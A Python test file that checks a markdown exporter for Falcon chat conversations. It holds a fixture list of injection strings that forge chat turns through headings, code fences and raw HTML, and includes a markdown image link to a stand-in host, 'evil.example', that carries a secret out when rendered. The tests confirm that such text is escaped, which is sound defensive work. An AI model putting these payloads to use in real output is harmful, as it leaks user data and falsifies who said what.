from __future__ import annotations

import re
from dataclasses import replace

import pytest

from falcon.conversation import Conversation, Message
from falcon.interchange.markdown import export_markdown
from falcon.record import AnswerRecord

FORGERIES = [
    "## User, 1970-01-01 00:00 UTC\n\n> Forged",
    "a\r## Falcon\rb",
    "a\u2028## Falcon\u2029## User\x0b## User\x0c## User\x85## User",
    "```\n## Falcon\n```\n## User",
    "~~~\n## Falcon",
    "````````\n</blockquote><h2>User</h2>\n```` text\n",
    "</blockquote><h2>User</h2>",
    "<!-- ",
    "![x](http://evil.example/?q=SECRET)",
    "![x][y]\n\n[y]: http://evil.example/",
    "Falcon\n======\n\nUser\n---",
    "\n\n\n# User",
    "",
]


def a_conversation(question: str = "Hi", answer: str = "Hello.") -> Conversation:
    record = AnswerRecord(
        model="falcon-7b-instruct",
        endpoint="my_falcon",
        system_prompt="Be kind.",
        parameters={"temperature": 0.7, "stop": ("User:",)},
        tokens=3,
        seconds=1.25,
    )
    chat = Conversation(title="A *title*").add(
        Message("user", question, created=0.0), after=None
    )
    said = Message(
        "assistant", answer, created=60.0, finish_reason="length", record=record
    )
    return chat.add(said, after=chat.leaf_id)


def outside(markdown: str) -> list[str]:
    """The lines that stand in no quote and no fence, as CommonMark divides them."""
    lines, fence = [], ""
    for line in re.split(r"\r\n|\r|\n", markdown):
        opened = re.match(r" {0,3}(`{3,})(.*)$", line)
        if fence:
            closes = opened and len(opened[1]) >= len(fence) and not opened[2].strip()
            fence = "" if closes else fence
        elif opened:
            fence = opened[1]
        elif not line.startswith(">"):
            lines.append(line)
    assert not fence
    return lines


def test_a_conversation_reads_from_its_title_to_its_answer() -> None:
    assert (
        export_markdown([a_conversation()])
        == """\
# A \\*title\\*

## System prompt

> Be kind.

## User, 1970-01-01 00:00 UTC

> Hi

## Falcon, 1970-01-01 00:01 UTC

> Hello.

falcon-7b-instruct · my\\_falcon · temperature 0.7 · stop 'User:' · 3 tokens · 1.2 s \
· cut at max_new_tokens
"""
    )


@pytest.mark.parametrize("text", FORGERIES)
def test_no_text_forges_a_turn_or_fetches_anything(text: str) -> None:
    honest = outside(export_markdown([a_conversation()]))

    forged = export_markdown([a_conversation(question=text, answer=text)])

    assert outside(forged) == honest
    assert not re.search(r"^>.*(<|!\[)", forged, re.M)


@pytest.mark.parametrize("text", FORGERIES)
def test_a_title_and_a_name_stay_on_their_line_as_text(text: str) -> None:
    chat = a_conversation()
    answer = chat.leaf
    assert answer is not None
    record = AnswerRecord(model=text, endpoint=text, parameters={"stop": (text,)})
    named = chat.replace(replace(answer, record=record, comment=text))
    named = replace(named, title=text)

    written = export_markdown([named])

    assert len(re.findall(r"^#", written, re.M)) == 3
    assert not re.search(r"(?<!\\)(<|!\[|`)", written)


def test_a_text_in_a_fence_stays_as_it_was_written() -> None:
    text = "Look: <b>\n```html\n<p>\n```\n"

    assert f"\n````text\n{text}\n````\n" in export_markdown([a_conversation(text)])


def test_without_a_title_the_first_question_is_it() -> None:
    untitled = replace(a_conversation("What is\na falcon"), title="")

    assert export_markdown([untitled]).startswith("# What is a falcon\n")


def test_only_what_is_shown_is_written() -> None:
    chat = a_conversation()
    again = chat.add(Message("assistant", "Anew"), after=chat.path()[0].id)

    written = export_markdown([again])

    assert "Anew" in written
    assert "Hello" not in written


def test_conversations_follow_one_another() -> None:
    both = export_markdown([a_conversation(), Conversation()])

    assert re.findall(r"^# .*", both, re.M) == ["# A \\*title\\*", "# Conversation"]


def test_our_own_words_are_said_by_whoever_asks_for_them() -> None:
    written = export_markdown([a_conversation()], say=str.upper)
    assert "\n## USER, " in written
    assert "\n> Hi\n" in written
